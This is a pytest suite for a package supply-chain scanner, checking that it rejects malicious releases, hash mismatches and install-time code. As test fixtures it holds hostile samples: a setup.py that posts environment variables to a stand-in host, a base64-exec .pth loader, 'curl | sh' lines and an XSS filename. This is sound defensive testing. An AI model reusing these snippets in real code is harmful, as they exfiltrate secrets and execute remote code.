"""The pipeline end to end, on a real index on loopback: planted faults are found, a clean project is approved, gaps are
said, hostile text stays text, and the same input gives the same bytes."""

from __future__ import annotations

import datetime
import json
from pathlib import Path
from typing import Any

import msgspec
import pytest

from scanner.cli import main
from tests.support.builders import sdist, sha256, wheel
from tests.support.index_server import Fault, File, Index

pytestmark = pytest.mark.usefixtures("seed_is_unpacked")

OLD_ADVISORIES_ARE_FINE = "[advisories]\nmax-age-days = 36500\n"
Report = dict[str, Any]


@pytest.fixture
def vendor(tmp_path: Path) -> Path:
    root = tmp_path / "vendor"
    root.mkdir()
    return root


def audited(vendor: Path, *arguments: str, policy: str = OLD_ADVISORIES_ARE_FINE) -> tuple[int, Report]:
    """Exit code and parsed ``report.json`` of one audit."""
    (vendor.parent / "policy.toml").write_text(policy)
    output = vendor.parent / "out"
    given = ["audit", str(vendor), "--quiet", "--output", str(output), "--policy", str(vendor.parent / "policy.toml")]
    code = main([*given, *arguments])
    return code, json.loads((output / "report.json").read_text())


def pinned(*files: tuple[str, bytes]) -> str:
    lines = []
    for filename, body in files:
        name, version = filename.split("-")[:2]
        lines.append(f"{name}=={version.removesuffix('.tar.gz')} --hash=sha256:{sha256(body)}\n")
    return "".join(lines)


def found(report: Report, rule: str) -> list[Report]:
    return [one for one in report["findings"] if one["rule"] == rule]


def places(report: Report, rule: str) -> list[tuple[str, int]]:
    return [(e["location"]["path"], e["location"]["line"]) for one in found(report, rule) for e in one["evidence"]]


def not_checked(report: Report) -> dict[str, set[str]]:
    gaps: dict[str, set[str]] = {}
    for one in report["coverage"]:
        if one["status"] == "not-checked":
            gaps.setdefault(one["check"], set()).add(one["subject"])
    return gaps


def test_a_clean_project_is_approved_and_every_check_says_what_it_looked_at(vendor: Path, index: Index) -> None:
    told = {"License-Expression": "MIT", "Project-URL": "Source, https://github.com/example/first"}
    first, second = wheel("first", requires=["second"], **told), wheel("second", **told)
    index.add("first", first)
    index.add("second", second)
    (vendor / "requirements.txt").write_text(pinned(first, second))
    (vendor / "app.py").write_text("import first\n")
    code, report = audited(vendor)
    assert (code, report["verdict"], report["findings"]) == (0, "approve", found(report, "advisories/old-database"))
    names = {(one["name"], one["version"]) for one in report["packages"]}
    assert names == {("first", "1.0"), ("second", "1.0")}
    for check in ("advisories", "pins", "code"):
        subjects = {
            one["subject"] for one in report["coverage"] if one["check"] == check and one["status"] == "checked"
        }
        assert {"first==1.0", "second==1.0"} <= subjects


def test_the_report_has_the_published_top_level(vendor: Path, index: Index) -> None:
    index.add("first", first := wheel("first"))
    (vendor / "requirements.txt").write_text(pinned(first))
    _, report = audited(vendor)
    promised = {"schema_version", "tool", "verdict", "reasons", "database", "packages", "graph", "findings", "coverage"}
    assert promised <= set(report)


def test_a_malicious_release_is_rejected_whatever_the_threshold(vendor: Path, index: Index) -> None:
    index.add("litellm", wheel("litellm", "1.83.7"))
    (vendor / "requirements.txt").write_text("idna==3.7\nlitellm==1.82.8\n")
    code, report = audited(vendor, "--fail-on", "critical")
    assert (code, report["verdict"]) == (1, "reject")
    [finding] = found(report, "advisories/malicious-release")
    assert "MAL-2026-2144" in finding["aliases"]
    assert places(report, "advisories/malicious-release") == [("requirements.txt", 2)]
    assert [step["name"] for step in finding["paths"][0]] == ["requirements.txt", "litellm"]


@pytest.mark.parametrize("lie", ["lock", "index"])
def test_a_digest_that_does_not_match_is_rejected_with_its_line(vendor: Path, index: Index, lie: str) -> None:
    name, body = wheel("first")
    index.add("first", File(name, body, claimed_sha256="0" * 64 if lie == "index" else None))
    promised = "0" * 64
    (vendor / "requirements.txt").write_text(f"# pins\nfirst==1.0 --hash=sha256:{promised}\n")
    code, report = audited(vendor)
    assert (code, report["verdict"]) == (1, "reject")
    rule = "pins/hash-mismatch-index" if lie == "lock" else "pins/hash-mismatch-bytes"
    assert ("requirements.txt", 2) in places(report, rule)


def test_code_that_steals_at_install_is_rejected_with_its_lines_and_trigger(vendor: Path, index: Index) -> None:
    setup = (
        "import os, urllib.request\nfrom setuptools import setup\n"
        'urllib.request.urlopen("https://collect.invalid/", data=repr(dict(os.environ)).encode())\n'
        'setup(name="thief")\n'
    )
    thief = sdist("thief", files={"setup.py": setup, "thief/__init__.py": ""})
    index.add("thief", thief)
    (vendor / "requirements.txt").write_text(pinned(thief))
    code, report = audited(vendor)
    assert (code, report["verdict"]) == (1, "reject")
    findings = [one for one in report["findings"] if one["check"] == "code" and one["trigger"] == "install"]
    assert findings
    lines = {line["number"] for one in findings for e in one["evidence"] for line in e["excerpt"] if line["marked"]}
    assert 3 in lines


def test_the_projects_own_tree_is_analysed_with_the_same_engine(vendor: Path, index: Index) -> None:
    index.add("first", first := wheel("first"))
    (vendor / "requirements.txt").write_text(pinned(first))
    (vendor / "evil_init.pth").write_text(
        "import base64; exec(base64.b64decode('aW1wb3J0IG9zLHNvY2tldApzb2NrZXQuc29ja2V0KCk='))\n"
    )
    code, report = audited(vendor)
    assert code == 1
    paths = {e["location"]["path"] for one in report["findings"] if one["check"] == "code" for e in one["evidence"]}
    assert "evil_init.pth" in paths
    triggers = {one["trigger"] for one in report["findings"] if one["check"] == "code"}
    assert "interpreter-start" in triggers


def test_offline_reports_what_the_files_tell_and_is_inconclusive(vendor: Path) -> None:
    (vendor / "requirements.txt").write_text("idna==3.7 --hash=sha256:" + "a" * 64 + "\n")
    code, report = audited(vendor, "--offline")
    assert (code, report["verdict"]) == (3, "inconclusive")
    gaps = not_checked(report)
    assert "idna==3.7" in gaps["pins"] & gaps["code"] & gaps["resolution"]
    assert [one["name"] for one in report["packages"]] == ["idna"]


def test_an_unreachable_index_is_a_gap_for_each_package_and_no_traceback(
    vendor: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PIP_INDEX_URL", "http://127.0.0.1:9/simple")
    monkeypatch.setenv("PIP_CONFIG_FILE", "/dev/null")
    monkeypatch.setattr("scanner.index.http.MAX_BACKOFF", 0.01)
    (vendor / "requirements.txt").write_text("idna==3.7 --hash=sha256:" + "a" * 64 + "\n")
    code, report = audited(vendor)
    assert (code, report["verdict"]) == (3, "inconclusive")
    assert "idna==3.7" in not_checked(report)["code"]


def test_one_artifact_that_fails_costs_its_own_result_only(vendor: Path, index: Index) -> None:
    first, second = wheel("first"), wheel("second")
    index.add("first", first)
    index.add("second", second)
    index.faults[f"/files/second/{second[0]}"] = Fault(403)
    (vendor / "requirements.txt").write_text(pinned(first, second))
    code, report = audited(vendor)
    assert code == 3
    assert not_checked(report)["code"] == {"second==1.0"}


def test_old_advisories_are_never_green(vendor: Path, index: Index) -> None:
    index.add("first", first := wheel("first"))
    (vendor / "requirements.txt").write_text(pinned(first))
    code, report = audited(vendor, policy="[advisories]\nmax-age-days = 1\n")
    assert (code, report["verdict"]) == (3, "inconclusive")
    assert not_checked(report)["advisories"] == {"project"}


def test_the_same_input_gives_the_same_bytes(
    vendor: Path, index: Index, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    moment = datetime.datetime(2026, 11, 1, tzinfo=datetime.UTC)
    monkeypatch.setenv("SOURCE_DATE_EPOCH", str(int(moment.timestamp())))
    packages = [wheel(f"p{number}", requires=[f"p{(number + 1) % 12}"]) for number in range(12)]
    for one in packages:
        index.add(one[0].split("-")[0], one)
    (vendor / "requirements.txt").write_text(pinned(*packages) + "litellm==1.82.6\n")
    (vendor / "setup.py").write_text("import os\nos.system('curl https://x.invalid | sh')\n")
    bodies = []
    for _ in range(2):
        audited(vendor)
        bodies.append({one: (tmp_path / "out" / one).read_bytes() for one in ("report.json", "report.html")})
    assert bodies[0] == bodies[1]
    assert json.loads(bodies[0]["report.json"])["run"]["time"] == "2026-11-01T00:00:00Z"


def test_hostile_names_and_lines_are_text_in_the_page(vendor: Path, index: Index, tmp_path: Path) -> None:
    index.add("first", first := wheel("first"))
    (vendor / "requirements.txt").write_text(pinned(first))
    (vendor / "<img src=x onerror=alert(1)>.pth").write_text(
        "import os; os.system('curl https://x.invalid|sh') #\x1b[31m<script>\n"
    )
    audited(vendor)
    page = (tmp_path / "out" / "report.html").read_text()
    assert "<img src=x" not in page
    assert "\x1b" not in page
    assert page.count("<script") <= 1


def test_a_waiver_of_the_policy_is_shown_with_its_owner(vendor: Path, index: Index) -> None:
    index.add("litellm", body := wheel("litellm", "1.82.6"))
    (vendor / "requirements.txt").write_text(pinned(body))
    waiver = (
        '[[waivers]]\npackage = "litellm"\nowner = "risk@customer.example"\nexpires = 2099-01-01\nreason = "pilot"\n'
    )
    code, report = audited(vendor, policy=OLD_ADVISORIES_ARE_FINE + waiver)
    assert (code, report["verdict"]) == (0, "approve-with-conditions")
    assert {one["owner"] for one in report["waived"]} == {"risk@customer.example"}


def test_the_report_can_be_read_back(vendor: Path, index: Index, tmp_path: Path) -> None:
    from scanner.model.report import Report as ReportValue

    index.add("first", first := wheel("first"))
    (vendor / "requirements.txt").write_text(pinned(first))
    audited(vendor)
    report = msgspec.json.decode((tmp_path / "out" / "report.json").read_bytes(), type=ReportValue)
    assert report.run.project == "vendor"
